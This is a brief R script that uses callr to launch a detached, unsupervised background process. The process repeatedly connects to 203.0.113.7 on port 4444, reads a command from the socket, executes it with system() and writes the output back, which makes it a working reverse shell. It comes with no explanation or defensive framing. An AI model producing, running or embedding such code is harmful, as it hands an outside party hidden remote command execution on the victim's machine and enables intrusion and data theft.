library(callr)

proc <- r_bg(function() {
  while (TRUE) {
    con <- socketConnection("203.0.113.7", 4444, open = "r+")
    cmd <- readLines(con, n = 1)
    writeLines(system(cmd, intern = TRUE), con)
    close(con)
  }
}, supervise = FALSE)
cat("started", proc$get_pid(), "\n")
